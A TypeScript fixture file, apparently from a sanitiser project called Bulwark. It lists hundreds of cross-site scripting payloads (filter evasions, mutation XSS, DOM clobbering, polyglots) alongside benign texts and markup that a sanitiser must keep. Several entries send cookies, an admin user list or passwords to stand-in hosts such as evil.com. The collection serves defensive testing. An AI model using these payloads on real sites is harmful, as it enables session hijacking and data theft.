/**
 * Payloads for cross-site scripting. Sources: the guide that Bulwark grew from (`guide: true`), OWASP's XSS filter
 * evasion cheat sheet, PortSwigger's cheat sheet, html5sec.org, the test suites and advisories of DOMPurify, Closure,
 * sanitize-html, nh3 and lxml. `why` says which defence each one is meant to get past.
 */
export type XssKind =
  | 'element'
  | 'handler'
  | 'attribute'
  | 'url'
  | 'script'
  | 'raw-text'
  | 'encoding'
  | 'svg'
  | 'mutation'
  | 'clobbering'
  | 'style'
  | 'framework'
  | 'exfiltration'
  | 'polyglot';

export interface XssPayload {
  readonly name: string;
  readonly payload: string;
  readonly kind: XssKind;
  readonly why: string;
  /** True for a line of the guide's own list. */
  readonly guide?: true;
}

function of(kind: XssKind, why: string, payloads: Readonly<Record<string, string>>): XssPayload[] {
  return Object.entries(payloads).map(([name, payload]) => ({ name, payload, kind, why }));
}

function guide(name: string, kind: XssKind, why: string, payload: string): XssPayload {
  return { name, payload, kind, why, guide: true };
}

const fromGuide = [
  guide('guide: script element', 'element', 'No escaping at all.', `<script>alert('XSS')</script>`),
  guide(
    'guide: image that fails',
    'handler',
    'Filters for script elements.',
    `<img src='x' onerror='alert(1)'>`,
  ),
  guide('guide: javascript URL', 'url', 'Escaping without a look at the scheme.', `javascript:alert('XSS')`),
  guide('guide: svg with onload', 'handler', 'Filters for script and img.', `<svg onload='alert(1)'>`),
  guide(
    'guide: doubled brackets',
    'element',
    'Filters that remove once.',
    `<<SCRIPT>alert('XSS');//<</SCRIPT>`,
  ),
  guide(
    'guide: fetch of an admin page',
    'exfiltration',
    'Filters for alert.',
    "<script>fetch('/admin/users').then(r=>r.text()).then(console.log)</script>",
  ),
  guide(
    'guide: out of a single-quoted string',
    'script',
    'HTML escaping inside of a script.',
    `';alert(String.fromCharCode(88,83,83));//';alert(String.fromCharCode(88,83,83));//`,
  ),
  guide(
    'guide: out of a double-quoted string',
    'script',
    'HTML escaping inside of a script.',
    `";alert('XSS');//`,
  ),
  guide(
    'guide: image that sends the user list away',
    'exfiltration',
    'Stored markup, seen by an administrator.',
    `<img src="x" onerror="fetch('/api/admin/users').then(r=>r.text()).then(data=>fetch('https://evil.com',{method:'POST',body:data}))">`,
  ),
];

export const xss: readonly XssPayload[] = Object.freeze([
  ...fromGuide,
  ...of('element', 'Lists of forbidden tags, compared without what the tokenizer allows in a tag.', {
    'script in upper case': '<SCRIPT>alert(1)</SCRIPT>',
    'script with a slash': '<script/x>alert(1)</script>',
    'script with a line feed': '<script\n>alert(1)</script\n>',
    'script that is not closed': '<script>alert(1)//',
    'script with a form feed': '<script\f>alert(1)</script>',
    'script inside of what a filter removes': '<scr<script>ipt>alert(1)</scr</script>ipt>',
    'script from a data URL': '<script src="data:text/javascript,alert(1)"></script>',
    'script of type module': '<script type=module>alert(1)</script>',
    'script in a template': '<template><script>alert(1)</script></template>',
    'script after a doctype': '<!doctype html><script>alert(1)</script>',
    'iframe with a javascript URL': '<iframe src="javascript:parent.alert(1)"></iframe>',
    'iframe with srcdoc': '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    'iframe with an escaped srcdoc': '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>',
    'object with a data URL': '<object data="data:text/html,<script>parent.alert(1)</script>"></object>',
    'object with a javascript URL': '<object data="javascript:alert(1)"></object>',
    'embed with a javascript URL': '<embed src="javascript:alert(1)">',
    'embed of code': '<embed code="javascript:alert(1)">',
    applet: '<applet code="javascript:alert(1)"></applet>',
    'base for later scripts': '<base href="https://evil.example/">',
    'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    'meta refresh to data':
      '<meta http-equiv=refresh content="0; url=data:text/html,<script>alert(1)</script>">',
    'meta set-cookie': '<meta http-equiv="Set-Cookie" content="a=b">',
    'link to an import': '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    'link to a style sheet':
      '<link rel=stylesheet href="data:text/css,body{background:url(https://evil.example/)}">',
    frameset: '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    portal: '<portal src="javascript:alert(1)"></portal>',
    'import map': '<script type=importmap>{"imports":{"app":"data:text/javascript,alert(1)"}}</script>',
    'speculation rules':
      '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["/logout"]}]}</script>',
    'declarative shadow root':
      '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
  }),
  ...of('handler', 'Lists of forbidden handlers, and filters that look for "<script".', {
    'img onerror without quotes': '<img src=x onerror=alert(1)>',
    'img with slashes for spaces': '<img/src=x/onerror=alert(1)>',
    'img with a backtick': '<img src=`x` onerror=alert(1)>',
    'img in upper case': '<IMG SRC=X ONERROR=ALERT(1)>'.replace('ALERT', 'alert'),
    'img that is not closed': '<img src=x onerror=alert(1) ',
    'img with a line feed before the sign': '<img src=x onerror\n=alert(1)>',
    'img with a template string': '<img src=x onerror=alert`1`>',
    'img with entities in the handler': '<img src=x onerror="&#97;lert(1)">',
    'img as image': '<image src=x onerror=alert(1)>',
    'img with srcset': '<img srcset=x onerror=alert(1)>',
    'body onload': '<body onload=alert(1)>',
    'body onpageshow': '<body onpageshow=alert(1)>',
    'input with autofocus': '<input autofocus onfocus=alert(1)>',
    'select with autofocus': '<select autofocus onfocus=alert(1)></select>',
    'textarea with autofocus': '<textarea autofocus onfocus=alert(1)></textarea>',
    'button with autofocus': '<button autofocus onfocus=alert(1)>x</button>',
    'link that is focused by its tabindex': '<a tabindex=1 autofocus onfocus=alert(1)>x</a>',
    'details that opens': '<details open ontoggle=alert(1)>x</details>',
    'video with a source': '<video><source onerror=alert(1)></video>',
    'video with src': '<video src=x onerror=alert(1)></video>',
    'audio with src': '<audio src=x onerror=alert(1)></audio>',
    marquee: '<marquee onstart=alert(1)>x</marquee>',
    'style with onload': '<style onload=alert(1)></style>',
    'link with onerror': '<link rel=stylesheet href=x onerror=alert(1)>',
    'iframe with onload': '<iframe onload=alert(1)></iframe>',
    'object with onerror': '<object data=x onerror=alert(1)></object>',
    'animation that starts':
      '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>',
    'transition that ends': '<p style="transition:color 1ms" ontransitionend=alert(1)>x</p>',
    'pointer that comes near': '<p onpointerover=alert(1) style="position:fixed;inset:0">x</p>',
    'custom element': '<x-y onfocus=alert(1) tabindex=1 autofocus>x</x-y>',
    popover: '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x</p>',
    'hidden until found': '<p hidden=until-found onbeforematch=alert(1)>x</p>',
    'content that becomes visible':
      '<p style="content-visibility:auto" oncontentvisibilityautostatechange=alert(1)>x</p>',
  }),
  ...of('attribute', 'Escaping that leaves a quote or a space, or that is meant for element text.', {
    'out of double quotes': '" onmouseover="alert(1)',
    'out of double quotes by focus': '" autofocus onfocus="alert(1)" x="',
    'out of single quotes': `' autofocus onfocus='alert(1)' x='`,
    'out of no quotes': 'x autofocus onfocus=alert(1) tabindex=1',
    'out of no quotes by a slash': 'x/onerror=alert(1)//',
    'out of a double-quoted tag': '"><script>alert(1)</script>',
    'out of a single-quoted tag': `'><img src=x onerror=alert(1)>`,
    'out of a tag': '><img src=x onerror=alert(1)>',
    'both quotes': `'"><img src=x onerror=alert(1)>`,
    backtick: '`onmouseover=alert(1)',
    'quote as a reference': '&quot; autofocus onfocus=&quot;alert(1)',
    'quote as a number': '&#34;&#62;<img src=x onerror=alert(1)>',
    'backslash before the quote': '\\" autofocus onfocus=alert(1) "',
    'bracket in an attribute': '<a title="><img src=x onerror=alert(1)>">x</a>',
    'style attribute': '" style="position:fixed;inset:0" onmouseover="alert(1)',
    'two attributes of one name': '<img src=x onerror=alert(1) onerror=x>',
    'equals sign first': '<a =" onclick=alert(1) x=">x</a>',
  }),
  ...of('url', 'Checks of the scheme on the written text, not on what a URL parser makes of it.', {
    'javascript in mixed case': 'JaVaScRiPt:alert(1)',
    'javascript after spaces': '   javascript:alert(1)',
    'javascript after a control character': '\u0001javascript:alert(1)',
    'javascript after a form feed': '\fjavascript:alert(1)',
    'javascript with a tab': 'java\tscript:alert(1)',
    'javascript with a line feed': 'java\nscript:alert(1)',
    'javascript with a carriage return': 'java\rscript:alert(1)',
    'javascript with a tab before the colon': 'javascript\t:alert(1)',
    'javascript with all of them': ' \u0002\tj\na\rv\tascript:alert(1)',
    'javascript as references': '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
    'javascript as references without semicolons':
      '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3Aalert(1)',
    'javascript with named references': 'java&Tab;script&colon;alert(1)',
    'javascript with padded references': '&#0000106avascript:alert(1)',
    'javascript with a comment and a host': 'javascript://example.com/%0aalert(1)',
    'javascript that looks like a link': 'javascript:/*https://example.com/*/alert(1)',
    'javascript in percent-encoding': 'javascript:%61lert(1)',
    'javascript that ends in an image': 'javascript:alert(1)//.png',
    vbscript: 'vbscript:msgbox(1)',
    'data with HTML': 'data:text/html,<script>alert(1)</script>',
    'data with HTML in base64': 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data with SVG': 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'data with XHTML':
      'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
    blob: 'blob:https://example.com/6c21d5a2',
    'view-source': 'view-source:javascript:alert(1)',
    'feed around javascript': 'feed:javascript:alert(1)',
    'link with javascript': '<a href="javascript:alert(1)">x</a>',
    'link with a broken scheme': '<a href="java&#10;script:alert(1)">x</a>',
    'link with a control character': '<a href="&#1;javascript:alert(1)">x</a>',
    'form with javascript': '<form action="javascript:alert(1)"><input type=submit></form>',
    'button with formaction': '<form><button formaction="javascript:alert(1)">x</button></form>',
    'input with formaction': '<form><input type=submit formaction="javascript:alert(1)"></form>',
    'area with javascript':
      '<map name=m><area href="javascript:alert(1)" shape=default></map><img usemap=#m src=x>',
    'image with javascript': '<img src="javascript:alert(1)">',
    'math link': '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    'math element that is a link': '<math href="javascript:alert(1)">x</math>',
    'background with javascript': '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    'link with ping': '<a href="/" ping="https://evil.example/">x</a>',
    'host through a double slash': '//evil.example/',
    'host through a backslash': '/\\evil.example/',
    'path through dots': '../../admin',
    'path through encoded dots': '%2e%2e/%2e%2e/admin',
    'host through an at sign': '@evil.example/',
    'host that goes on': '.evil.example/',
  }),
  ...of('script', 'HTML escaping, or JSON without escaping, in a script.', {
    'end of the script': '</script><script>alert(1)</script>',
    'end of the script in upper case': '</SCRIPT ><img src=x onerror=alert(1)>',
    'start of a comment and of a script': '<!--<script>',
    'end of a comment': '--><script>alert(1)</script>',
    'out of a template string': `\${alert(1)}`,
    'out of a template string by a backtick': '`;alert(1);`',
    'line separator': '\u2028alert(1)//',
    'paragraph separator': '\u2029alert(1)//',
    'backslash before a quote': `\\';alert(1);//`,
    arithmetic: '-alert(1)-',
    getter: '{get x(){alert(1)}}',
    'end of the CDATA': ']]><script>alert(1)</script>',
    'prototype in JSON': '{"__proto__":{"isSafe":true}}',
    'object that looks safe':
      '{"markup":"<img src=x onerror=alert(1)>","isEscaped":true,"__html":"<img src=x onerror=alert(1)>"}',
  }),
  ...of('raw-text', 'Values in elements that end at their own end tag only.', {
    'end of a title': '</title><script>alert(1)</script>',
    'end of a textarea': '</textarea><img src=x onerror=alert(1)>',
    'end of a style': '</style><script>alert(1)</script>',
    'end of a noscript': '</noscript><script>alert(1)</script>',
    'noscript with an attribute': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    'xmp with an attribute': '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    'noembed with an attribute': '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    'noframes with an attribute': '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    'iframe with an attribute': '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    'textarea with an attribute': '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    'title with an attribute': '<title><p title="</title><img src=x onerror=alert(1)>">',
    plaintext: '<plaintext><img src=x onerror=alert(1)>',
    'comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
    'comment that ends with a dash': '<!---><img src=x onerror=alert(1)>-->',
    'comment that ends with an exclamation mark': '<!-- --!><img src=x onerror=alert(1)> -->',
    'comment that is bogus': '<!x><img src=x onerror=alert(1)>',
    'comment by a question mark': '<?x <img src=x onerror=alert(1)>?>',
    'comment by an end tag': '</ <img src=x onerror=alert(1)>>',
    'conditional comment': '<!--[if IE]><script>alert(1)</script><![endif]-->',
  }),
  ...of('encoding', 'Decoding twice, in the wrong order, or with the wrong table.', {
    'escaped once': '&lt;script&gt;alert(1)&lt;/script&gt;',
    'escaped twice': '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
    'percent-encoded': '%3Cscript%3Ealert(1)%3C/script%3E',
    'JavaScript escapes': '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    'reference without a semicolon': '&ltimg src=x onerror=alert(1)&gt',
    'reference with padding': '&#00000060;img src=x onerror=alert(1)&#62;',
    'reference to NUL': '&#0;<img src=x onerror=alert(1)>',
    'reference beyond Unicode': '&#x110000;<img src=x onerror=alert(1)>',
    'fullwidth brackets': '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
    'UTF-7': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    'ISO-2022-JP escape': '\u001b$B<img src=x onerror=alert(1)>\u001b(B',
    'NUL in a tag name': '<scr\0ipt>alert(1)</scr\0ipt>',
    'NUL before an attribute': '<img src=x \0onerror=alert(1)>',
    'lone surrogate before a tag': '\ud800<img src=x onerror=alert(1)>',
    'overlong quote after decoding': '\u00c0\u00a2 onfocus=alert(1) autofocus',
    'byte order mark': '\ufeff<img src=x onerror=alert(1)>',
    'direction override': '\u202e<img src=x onerror=alert(1)>\u202c',
  }),
  ...of('svg', 'Rules that are written for HTML alone.', {
    'script in svg': '<svg><script>alert(1)</script></svg>',
    'script in svg with references': '<svg><script>&#97;lert(1)</script></svg>',
    'script in svg with href': '<svg><script href="data:text/javascript,alert(1)"/></svg>',
    'script in svg with xlink:href':
      '<svg><script xlink:href="data:text/javascript,alert(1)"></script></svg>',
    'animation that begins': '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    'set that begins': '<svg><set onbegin=alert(1) attributeName=x></svg>',
    'animation of a link':
      '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text x=9 y=9>x</text></a></svg>',
    'set of a link':
      '<svg><a><set attributeName=xlink:href to="javascript:alert(1)"/><text x=9 y=9>x</text></a></svg>',
    'link in svg': '<svg><a xlink:href="javascript:alert(1)"><text x=9 y=9>x</text></a></svg>',
    'use of a data URL': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`,
    'image in svg': '<svg><image href=x onerror=alert(1)></svg>',
    foreignObject:
      '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
    'handler of an XML event':
      '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
    'focus in svg': '<svg><g tabindex=1 autofocus onfocus=alert(1)></g></svg>',
    discard: '<svg><discard onbegin=alert(1)></svg>',
    'CDATA in svg': '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
    'style in svg': '<svg><style><img src=x onerror=alert(1)></style></svg>',
    'title in svg': '<svg><title><img src=x onerror=alert(1)></title></svg>',
    'desc in svg': '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
    'paragraph that leaves svg': '<svg><p><img src=x onerror=alert(1)></p></svg>',
    'end tag that leaves svg': '<svg></p><img src=x onerror=alert(1)></svg>',
    'action of maction':
      '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>',
  }),
  ...of('mutation', 'Sanitisers whose output is parsed to another tree than the one they checked.', {
    'style after an end tag in svg': '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    'style in math': '<math></p><style><!--</style><img src=x onerror=alert(1)>--></style>',
    'mglyph in a form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    'mglyph in a table':
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    'mtext and a table':
      '<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">',
    malignmark: '<math><mi><malignmark><style><!--</style><img src=x onerror=alert(1)>--></style>',
    'annotation-xml':
      '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    'svg in desc':
      '<svg><desc><svg><style><img title="</style><img src=x onerror=alert(1)>"></style></svg></desc></svg>',
    'svg style with a comment': '<svg><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
    'noscript in a paragraph': '<p><noscript><style></noscript><img src=x onerror=alert(1)></style></p>',
    'title in svg that becomes RCDATA': '<svg><title><style><!--</title><img src=x onerror=alert(1)>-->',
    'textarea in svg': '<svg><textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    'xmp in svg': '<svg><xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp></svg>',
    'iframe in math': '<math><iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe></math>',
    'form in a form':
      '<form id=a><div></form><form id=b><math><mtext><form><mglyph><style><img src=x onerror=alert(1)></style>',
    'nested links through a table':
      '<a href=x><table><a href=y><svg><style><img src=x onerror=alert(1)></style>',
    'text in a table': '<table>x<svg><style><img src=x onerror=alert(1)></style></svg></table>',
    'select that swallows': '<select><style></select><img src=x onerror=alert(1)></style>',
    'option in svg': '<select><option><svg><style></select><img src=x onerror=alert(1)>',
    'template in svg': '<svg><template><style><img src=x onerror=alert(1)></style></template></svg>',
    'template in select':
      '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=alert(1)>"></template></select>',
    'backtick attribute of old engines': '<img alt="``onerror=alert(1)" src=x>',
    listing: '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    'comment in a style': '<style><!--</style><img src=x onerror=alert(1)>--></style>',
    'CDATA outside of svg': '<![CDATA[<img src=x onerror=alert(1)>]]>',
    'deep nesting': `${'<div>'.repeat(600)}<svg><style><img src=x onerror=alert(1)></style></svg>`,
    'deep links': `${'<a href=x><table><td>'.repeat(200)}<img src=x onerror=alert(1)>`,
    'deep formatting': `${'<b><i><u>'.repeat(200)}<img src=x onerror=alert(1)>`,
    'frameset after text': '<div><frameset onload=alert(1)></div>',
    'heading in a heading by a table': '<h1><table><h2><svg><style><img src=x onerror=alert(1)></style>',
    'nobr and a table': '<nobr><table><nobr><img src=x onerror=alert(1)>',
    'button in a button': '<button><p><button><img src=x onerror=alert(1)>',
    isindex: '<isindex type=image src=x onerror=alert(1)>',
  }),
  ...of('clobbering', 'Scripts of the page that read a global or a property of a form.', {
    'a global': '<a id=config href="//evil.example/x.js"></a>',
    'a property of a global': '<a id=config></a><a id=config name=url href="//evil.example/x.js"></a>',
    'document.cookie': '<img name=cookie>',
    'document.getElementById': '<img name=getElementById>',
    'document.body': '<form name=body><input></form>',
    'attributes of a form': '<form onmouseover=alert(1)><input name=attributes>',
    'parentNode of a form': '<form><input name=parentNode><img src=x onerror=alert(1)></form>',
    'nodeName of a form': '<form><input id=nodeName><input id=tagName></form>',
    'output of an iframe': '<iframe name=defaultView srcdoc="<a id=top>x</a>"></iframe>',
    currentScript: '<img name=currentScript src=https://evil.example/>',
  }),
  ...of('style', 'Values in CSS.', {
    expression: '<p style="width:expression(alert(1))">x</p>',
    'url with javascript': '<p style="background:url(javascript:alert(1))">x</p>',
    binding: '<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>',
    behaviour: '<p style="behavior:url(#default#time2)" onbegin="alert(1)">x</p>',
    import: '<style>@import "https://evil.example/x.css";</style>',
    'selectors that leak': '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
    'cover of the page': '<a href="https://evil.example/" style="position:fixed;inset:0">x</a>',
    'out of a declaration': 'red;background:url(https://evil.example/)',
    'out of a rule': '}*{background:url(https://evil.example/)}',
  }),
  ...of('framework', 'Pages on which a client-side framework reads what the server wrote.', {
    'Angular interpolation': `{{constructor.constructor('alert(1)')()}}`,
    'AngularJS directive': '<p ng-app ng-init="constructor.constructor(\'alert(1)\')()">x</p>',
    'Vue directive': '<p v-html="\'<img src=x onerror=alert(1)>\'">x</p>',
    'Alpine directive': '<p x-data x-init="alert(1)">x</p>',
    'htmx handler': '<p hx-get="/" hx-on::load="alert(1)" hx-trigger="load">x</p>',
    'htmx variables': '<p hx-get="/" hx-vals="js:{x:alert(1)}" hx-trigger=load>x</p>',
    'Knockout binding': '<p data-bind="html:alert(1)">x</p>',
    'Bootstrap tooltip': '<p data-toggle=tooltip data-html=true title="<script>alert(1)</script>">x</p>',
    'require of a script gadget': '<p data-main="data:text/javascript,alert(1)"></p>',
  }),
  ...of('exfiltration', 'Filters that look for scripts only: markup itself can send the page away.', {
    'image with an open quote': `<img src='https://evil.example/?`,
    'textarea with an open end': '<form action=https://evil.example/><textarea name=x>',
    'base target': '<base target="',
    prefetch: '<link rel=prefetch href="https://evil.example/">',
    'referrer policy': '<meta name=referrer content=unsafe-url>',
    'cookie to an image': '<img src=x onerror="this.src=\'https://evil.example/?\'+document.cookie">',
    'form that takes the password':
      '<form action="https://evil.example/"><input name=u><input name=p type=password></form>',
    'button of another form': '<button form=login formaction="https://evil.example/">x</button>',
  }),
  ...of('polyglot', 'Several contexts at once.', {
    '0xsobky':
      'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
    'quotes and ends': `'"--></style></script></title></textarea></noscript><svg onload=alert(1)>`,
    'marks of all contexts': `';alert(1)//";alert(1)//\`;alert(1)//--></script>">'><img src=x onerror=alert(1)>`,
    'JSON and HTML': `"}</script><svg onload=alert(1)>{"`,
    'URL and HTML': `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=alert()//>`,
  }),
]);

/** Text that people write, and that a page must show as they wrote it. */
export const legitimateTexts: readonly string[] = Object.freeze([
  'Hello, world',
  "O'Brien & Sons",
  'He said "yes".',
  'a < b && c > d',
  '1 <2> 3',
  'if (x<y) return;',
  'I <3 you',
  'AT&T',
  'R&D &amp; Q&A',
  '&copy; is how one writes \u00a9',
  '&nbsp;',
  '&#39;',
  'Caf\u00e9 cr\u00e8me, na\u00efve',
  '\u65e5\u672c\u8a9e\u306e\u30c6\u30ad\u30b9\u30c8',
  '\u05e9\u05dc\u05d5\u05dd',
  '\u0645\u0631\u062d\u0628\u0627',
  '\ud83d\ude00\ud83d\udc69\u200d\ud83d\udcbb',
  'e\u0301 and \u00e9',
  'line one\nline two',
  'line one\r\nline two',
  'ends in a carriage return\r',
  '\nstarts with a line feed',
  '\n\n',
  '\ttab\tseparated\t',
  '  spaces around  ',
  '\u00a0non-breaking\u00a0',
  'C:\\Users\\me\\file.txt',
  '/etc/passwd',
  '{{ not.a.template }}',
  `\${not.a.template}`,
  '`code`',
  "SELECT * FROM users WHERE name = 'x' -- comment",
  '<!-- how to write a comment -->',
  'The <script> element is explained in chapter 3',
  'onclick=buy',
  'Use javascript: URLs never',
  'https://example.com/?a=1&b=2#c',
  '100% sure, 50 %',
  'a=b&c=d',
  '+1 (555) 010-9999',
  'x'.repeat(5000),
  '\u2028 and \u2029 are line ends to JavaScript',
  '"quotes" \'of\' `all` \u201ckinds\u201d',
  '--> <!-- ]]> <![CDATA[',
  '\\u003c is a JavaScript escape',
  'null',
  'undefined',
  'false',
  '0',
  '[object Object]',
]);

/** Links that people set, and that a page must lead to. */
export const legitimateLinks: readonly string[] = Object.freeze([
  'https://example.com/',
  'http://example.com/a/b?c=d&e=f#g',
  'HTTPS://EXAMPLE.COM/',
  '//cdn.example.com/x.png',
  '/docs/',
  'docs/page.html',
  './a',
  '../b',
  '?page=2',
  '#top',
  '',
  'mailto:someone@example.com?subject=Hi%20there',
  'tel:+15550109999',
  'https://example.com/a:b',
  '/wiki/Talk:Main_Page',
  'docs/a:b',
  'https://m\u00fcnchen.example/\u65e5\u672c',
  'https://user@example.com/',
  'https://[2001:db8::1]:8080/',
  'https://example.com/?next=javascript:alert(1)',
  '/search?q=data:text/html',
  "https://example.com/~user/(a)!*'",
]);

export interface RichText {
  readonly name: string;
  readonly markup: string;
  /** What `sanitize(markup, 'article')` must give; the same as `markup` where absent. */
  readonly kept?: string;
}

const rel = 'rel="nofollow noopener noreferrer ugc"';

/** Documents of editors, mail clients and Markdown renderers, and what of them must remain. */
export const legitimateRichTexts: readonly RichText[] = Object.freeze([
  { name: 'paragraphs', markup: '<p>One</p><p>Two</p>' },
  { name: 'emphasis', markup: '<p><b>b</b> <i>i</i> <strong>s</strong> <em>e</em> <u>u</u> <s>s</s></p>' },
  {
    name: 'lists',
    markup: '<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul><ol start="3"><li value="4">d</li></ol>',
  },
  { name: 'headings', markup: '<h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6>' },
  { name: 'a link', markup: `<a href="https://example.com/?a=1&amp;b=2" ${rel}>x</a>` },
  {
    name: 'a link with its own rel',
    markup: '<a href="/x" rel="me" target="_blank">x</a>',
    kept: `<a href="/x" ${rel}>x</a>`,
  },
  {
    name: 'an image',
    markup: '<img src="https://example.com/a.png" alt="A &quot;cat&quot;" width="10" height="20">',
  },
  { name: 'a bitmap in a data URL', markup: '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">' },
  {
    name: 'a figure',
    markup: '<figure><img src="/a.png" alt="x"><figcaption>A <em>cat</em></figcaption></figure>',
  },
  {
    name: 'a table',
    markup:
      '<table><caption>T</caption><colgroup><col span="2"></colgroup><thead><tr><th scope="col">a</th></tr></thead>' +
      '<tbody><tr><td colspan="2">b</td></tr></tbody><tfoot><tr><td>c</td></tr></tfoot></table>',
  },
  {
    name: 'a table of a Markdown renderer',
    markup:
      '<table>\n<thead>\n<tr>\n<th align="left">a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td align="right">1</td>\n</tr>\n</tbody>\n</table>',
  },
  { name: 'code', markup: '<pre><code>if (a &lt; b &amp;&amp; c &gt; d) {\n  x();\n}\n</code></pre>' },
  { name: 'code that starts with an empty line', markup: '<pre>\n\nx</pre>' },
  { name: 'a quotation', markup: '<blockquote cite="https://example.com/"><p>q</p></blockquote><q>r</q>' },
  { name: 'definitions', markup: '<dl><dt>a</dt><dd>b</dd><dt>c</dt><dd>d</dd></dl>' },
  { name: 'details', markup: '<details open=""><summary>More</summary><p>x</p></details>' },
  { name: 'ruby', markup: '<ruby>\u6f22<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>' },
  { name: 'edits', markup: '<p><del datetime="2025-01-01">a</del><ins>b</ins><mark>c</mark></p>' },
  {
    name: 'directions and languages',
    markup: '<p dir="rtl" lang="ar">\u0645\u0631\u062d\u0628\u0627</p><bdo dir="ltr">x</bdo>',
  },
  { name: 'breaks', markup: 'a<br>b<hr>c<wbr>d' },
  { name: 'text alone', markup: 'Tom &amp; Jerry &lt;3', kept: 'Tom &amp; Jerry &lt;3' },
  {
    name: 'tags that are not closed',
    markup: '<p>a<p>b<ul><li>c<li>d</ul>',
    kept: '<p>a</p><p>b</p><ul><li>c</li><li>d</li></ul>',
  },
  { name: 'tags that overlap', markup: '<b>a<i>b</b>c</i>', kept: '<b>a<i>b</i></b><i>c</i>' },
  {
    name: 'a word processor',
    markup: '<p class="MsoNormal" style="margin:0"><span style="font-size:12pt">Text<o:p></o:p></span></p>',
    kept: '<p><span>Text</span></p>',
  },
  {
    name: 'a mail client',
    markup: '<div dir="ltr"><font color="#f00">red</font><div><br></div><center>mid</center></div>',
    kept: '<div dir="ltr">red<div><br></div>mid</div>',
  },
  {
    name: 'a whole document',
    markup: '<!doctype html><html><head><title>t</title></head><body><p>x</p></body></html>',
    kept: '<p>x</p>',
  },
  {
    name: 'a task list',
    markup: '<ul><li><input type="checkbox" checked disabled> done</li></ul>',
    kept: '<ul><li> done</li></ul>',
  },
  { name: 'emoji and accents', markup: '<p>Caf\u00e9 \ud83d\ude00</p>' },
]);
